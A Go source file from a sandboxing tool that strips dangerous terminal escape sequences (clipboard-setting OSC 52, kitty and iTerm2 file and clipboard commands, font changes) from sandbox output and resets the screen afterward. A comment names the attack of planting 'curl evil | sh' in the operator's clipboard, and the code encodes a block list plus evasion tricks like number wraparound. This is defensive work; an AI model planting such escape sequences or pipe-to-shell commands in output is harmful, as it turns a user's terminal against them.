package bwrap

import "bytes"

// The sandbox's terminal output reaches the host's terminal emulator, which obeys more
// than text. Two things are not the sandbox's to do there (a hostile review did both):
//   - operating system commands that act outside the terminal's screen: OSC 52 sets the
//     host's clipboard (a "curl evil | sh" the operator pastes later), kitty's OSC 5522
//     reads and writes it too, iTerm2's OSC 1337 writes files (File=) and sets
//     variables, OSC 50 changes the font (the old xterm font-name exploits); oscFilter
//     drops them from the stream;
//   - a screen state left behind (concealed text, an alternate screen, a hidden cursor,
//     mouse reporting) that hides or garbles what box prints after the run, its audit
//     report first; terminalReset puts those back before box says anything.
//
// Other sequences (colours, cursor motion, titles, hyperlinks, queries whose answers come
// back to the sandbox's own terminal) pass unchanged.

// droppedOSC are the OSC numbers oscFilter removes (kitty's 5113 is its file transfer,
// both ways).
var droppedOSC = []int{52, 5522, 1337, 50, 5113}

// oscMaxDrop bounds what one dropped sequence swallows: past it the filter lets bytes
// through again (as text: the terminal never saw the sequence's start), so a sequence
// never terminated cannot silence the sandbox's output for good.
const oscMaxDrop = 1 << 20

// oscMaxDigits bounds the number held: a longer one is no command any terminal defines,
// and is dropped whole rather than held without end.
const oscMaxDigits = 16

type oscState uint8

const (
	oscGround  oscState = iota
	oscEsc              // after ESC
	oscNumber           // after ESC ] or the 8-bit OSC (0x9d), reading the number
	oscDrop             // inside a dropped sequence
	oscDropEsc          // inside a dropped sequence, after ESC
)

// c1OSC is the 8-bit OSC. A terminal in UTF-8 reads it encoded (C2 9D, U+009D: xterm,
// VTE), an 8-bit one raw, and an 8-bit one reads it inside a UTF-8 character too (the
// last byte of a right double quote, E2 80 9D): so every 0x9d byte is taken for an
// introducer, and text where one is followed at once by a dropped number is dropped
// with it (it is never a character's text but there).
const c1OSC = 0x9d

// oscFilter removes the dropped OSC sequences from a byte stream cut anywhere.
type oscFilter struct {
	state   oscState
	c1      bool   // the sequence began with c1OSC, not ESC ]
	num     []byte // the OSC number read so far (at most oscMaxDigits)
	dropped int
}

// filter appends what of src passes to dst and returns it. The bytes of a sequence cut
// by a read (ESC, ESC ], a number) are held until the next call decides them.
func (f *oscFilter) filter(dst, src []byte) []byte {
	for len(src) > 0 {
		switch f.state {
		case oscGround:
			i := bytes.IndexByte(src, 0x1b)
			if j := bytes.IndexByte(src, c1OSC); j >= 0 && (i < 0 || j < i) {
				dst = append(dst, src[:j]...)
				src = src[j+1:]
				f.state, f.c1, f.num = oscNumber, true, f.num[:0]
				continue
			}
			if i < 0 {
				return append(dst, src...)
			}
			dst = append(dst, src[:i]...)
			src = src[i+1:]
			f.state = oscEsc
		case oscEsc:
			b := src[0]
			switch b {
			case ']':
				f.state, f.c1, f.num = oscNumber, false, f.num[:0]
				src = src[1:]
			case 0x1b:
				dst = append(dst, 0x1b) // ESC ESC: the first is done, the second starts again
				src = src[1:]
			default:
				dst = append(dst, 0x1b)
				f.state = oscGround
			}
		case oscNumber:
			b := src[0]
			switch {
			case b >= '0' && b <= '9' && len(f.num) < oscMaxDigits:
				f.num = append(f.num, b)
				src = src[1:]
			case b >= '0' && b <= '9':
				f.state, f.dropped = oscDrop, 0 // no terminal's command: dropped whole
			case b == ';' && oscSuspect(f.num):
				f.state, f.dropped = oscDrop, 0
				src = src[1:]
			case oscDroppedNumber(f.num):
				// Some terminals skip whatever follows the number (kitty): dropped
				// whatever it is, b included (a terminator ends the drop at once).
				f.state, f.dropped = oscDrop, 0
			default:
				// Not one to drop: what was held goes out, and b is read as usual.
				if f.c1 {
					dst = append(dst, c1OSC)
				} else {
					dst = append(dst, 0x1b, ']')
				}
				dst = append(dst, f.num...)
				f.state = oscGround
			}
		case oscDrop:
			room := oscMaxDrop - f.dropped
			i := bytes.IndexAny(src, "\x07\x1b\x18\x1a")
			if i < 0 || i > room {
				n := len(src)
				if i >= 0 {
					n = i
				}
				if n > room { // the bound: what follows passes
					src, f.state = src[room:], oscGround
					continue
				}
				f.dropped += n
				src = src[n:]
				continue
			}
			if src[i] == 0x1b {
				f.state = oscDropEsc
			} else {
				f.state = oscGround // BEL ends it; CAN and SUB cancel it
			}
			src = src[i+1:]
		case oscDropEsc:
			if src[0] == '\\' {
				f.state = oscGround // ST ends it
				src = src[1:]
			} else {
				f.state = oscEsc // ESC cancels the string and starts a sequence of its own
			}
		}
	}
	return dst
}

// oscDroppedNumber: the number, read as terminals read it (leading zeros ignored: xterm,
// kitty and VTE take "052" for 52), is one of droppedOSC.
func oscDroppedNumber(num []byte) bool {
	if len(num) > 5 {
		return false
	}
	n := 0
	for _, c := range num {
		n = n*10 + int(c-'0')
	}
	for _, d := range droppedOSC {
		if n == d && len(num) > 0 {
			return true
		}
	}
	return false
}

// oscSuspect: a number box drops before ';': a dropped one, or one written in a form no
// program needs whose value a terminal may read as anything (leading zeros, more digits
// than any command has: xterm's int wraps, so 4294967348 is 52 to it).
func oscSuspect(num []byte) bool {
	return oscDroppedNumber(num) || len(num) > 5 || (len(num) > 1 && num[0] == '0')
}

// terminalReset puts back the screen state a sandbox may have left, before box prints:
// attributes (conceal, colours), the main screen (?47l: ?1049l would also restore a
// cursor position saved long before), the cursor shown, mouse and focus reporting and
// bracketed paste off, origin mode off, the ASCII character set in G0 and selected (a
// line-drawing set garbles every letter). A shell turns on what it uses again at its
// next prompt.
const terminalReset = "\x1b[0m\x1b[?47l\x1b[?25h\x1b[?1000l\x1b[?1002l\x1b[?1003l\x1b[?1006l\x1b[?1004l\x1b[?2004l\x1b[?6l\x1b(B\x0f"
